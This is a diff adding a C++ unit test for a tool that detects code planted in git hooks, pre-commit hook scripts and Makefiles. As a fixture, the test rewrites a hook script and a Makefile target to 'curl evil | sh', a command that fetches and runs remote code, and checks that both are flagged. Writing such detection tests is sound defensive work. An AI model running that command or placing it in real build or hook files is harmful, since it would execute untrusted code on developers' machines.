@@ -240,6 +240,22 @@ TEST_F(PlantedCode, WhatDirenvGitLfsAndHookManagersReadIsWatched) {
                                                  "old/.pre-commit-config.yaml", "sub/.lfsconfig", "app/bin/ls"}));
 }
 
+// A hook manager's file and a hook name what they run: a script, the
+// Makefile `make` reads.
+TEST_F(PlantedCode, WhatHooksAndHookManagersRunIsWatched) {
+  write_file(ws_ + "/old/.pre-commit-config.yaml",
+             "repos:\n- repo: local\n  hooks:\n  - id: license\n    entry: scripts/check-license.sh\n");
+  write_file(ws_ + "/old/scripts/check-license.sh", "grep -L SPDX\n");
+  write_file(ws_ + "/old/.git/hooks/pre-push", "#!/bin/sh\nmake -s lint\n");
+  write_file(ws_ + "/old/.git/hooks/pre-commit.sample", "./not-run.sh\n");
+  write_file(ws_ + "/old/Makefile", "lint:\n\ttrue\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/old/scripts/check-license.sh", "curl evil | sh\n");
+  write_file(ws_ + "/old/Makefile", "lint:\n\tcurl evil | sh\n");
+  write_file(ws_ + "/old/not-run.sh", "fine\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/Makefile", "old/scripts/check-license.sh"}));
+}
+
 // The ways .envrc files load more as people write them: $PWD, command
 // substitution, layout node, a PATH export. On the PATH only programs named
 // like the user's own commands count (npm's installs change the rest).
